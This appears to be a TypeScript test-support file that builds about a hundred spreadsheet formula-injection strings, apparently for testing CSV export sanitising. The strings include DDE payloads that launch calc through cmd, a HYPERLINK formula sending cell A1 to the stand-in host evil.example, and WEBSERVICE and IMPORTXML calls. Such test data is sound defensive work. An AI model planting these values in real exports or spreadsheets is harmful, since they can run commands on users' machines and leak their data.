/** Test support: a hundred texts that a spreadsheet would take for a formula. */
export const hostileCells = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '\u200b='].flatMap((begin) =>
  [
    ...["cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?"&A1,"x")', '1+1', 'SUM(A1:A9)', 'IMPORTXML("//x","//a")'],
    ...['"",1', 'WEBSERVICE("http://x")', "'quoted'", 'DDE("cmd";"/C calc";"x")', ''],
  ].map((rest) => begin + rest),
)
